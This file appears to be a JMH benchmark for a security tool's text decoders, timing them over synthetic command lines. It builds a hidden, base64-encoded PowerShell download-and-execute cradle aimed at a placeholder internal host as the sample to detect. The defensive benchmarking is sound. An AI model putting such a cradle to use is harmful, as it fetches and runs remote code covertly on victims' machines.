package dev.spoor.bench;

import dev.spoor.api.Decoder;
import dev.spoor.api.Piece;
import dev.spoor.api.Provider;
import dev.spoor.tck.MemoryCall;
import dev.spoor.tck.MemoryContext;
import dev.spoor.tck.MemoryPiece;
import dev.spoor.tck.MemoryPieces;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.ServiceLoader;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/**
 * All decoders of text over 32 MiB of command lines, row by row as the host does it: each row is asked for, and decoded where one of them knows
 * something; one row in {@code every} is an encoded command. Operations per second times 32 is MiB/s, of one thread.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Fork(1)
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
public class HiddenText {
    private static final int SIZE = 32 << 20;

    @Param({"50", "1000000000"})
    public int every;

    private final List<Decoder.Session> sessions = new ArrayList<>();
    private byte[] bytes = new byte[0];
    private int[] rows = new int[0];

    @Setup
    @SuppressWarnings("rawtypes")
    public void load() throws Exception {
        for (Provider<?> provider : ServiceLoader.load(Provider.class)) {
            if (provider instanceof Decoder decoder
                    && decoder.descriptor().accepts().contains(Piece.TEXT)) {
                sessions.add(decoder.open(new MemoryContext(Path.of("unused"))));
            }
        }
        if (sessions.size() < 9) {
            throw new IllegalStateException("only " + sessions.size() + " decoders of text");
        }
        Random random = new Random(3);
        StringBuilder text = new StringBuilder();
        List<Integer> starts = new ArrayList<>(List.of(0));
        for (int n = 1; text.length() < SIZE; n++) {
            text.append(n % every == 0 ? encoded(n) : plain(random));
            starts.add(text.length());
        }
        bytes = text.toString().getBytes(StandardCharsets.US_ASCII);
        rows = starts.stream().mapToInt(Integer::intValue).toArray();
    }

    private static String encoded(int n) {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.7/a" + n + "')";
        return "powershell -nop -w hidden -enc "
                + Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    private static String plain(Random random) {
        int n = random.nextInt(100_000);
        return switch (random.nextInt(5)) {
            case 0 -> "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule";
            case 1 ->
                "\"C:\\Program Files\\Vendor" + n + "\\program.exe\" --job " + n
                        + " --type=renderer --field-trial-handle=" + n;
            case 2 -> "cmd.exe /c \"dir C:\\Users\\user" + n + "\\Documents /s /b > %TEMP%\\list" + n + ".txt\"";
            case 3 ->
                "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup" + n + ".ps1 -Target srv"
                        + n;
            default -> "/usr/bin/python3 /opt/app/worker.py --queue=jobs --id=" + n + " --shard=7";
        };
    }

    @Benchmark
    public long decode() throws Exception {
        long found = 0;
        for (int row = 0; row + 1 < rows.length; row++) {
            int from = rows[row];
            int to = rows[row + 1];
            for (Decoder.Session session : sessions) {
                if (session.probe(bytes, from, to) > 0) {
                    MemoryPieces out = new MemoryPieces();
                    session.decode(
                            new MemoryPiece("cell", Piece.TEXT, Arrays.copyOfRange(bytes, from, to)),
                            out,
                            new MemoryCall());
                    found += out.found().size();
                }
            }
        }
        return found;
    }
}
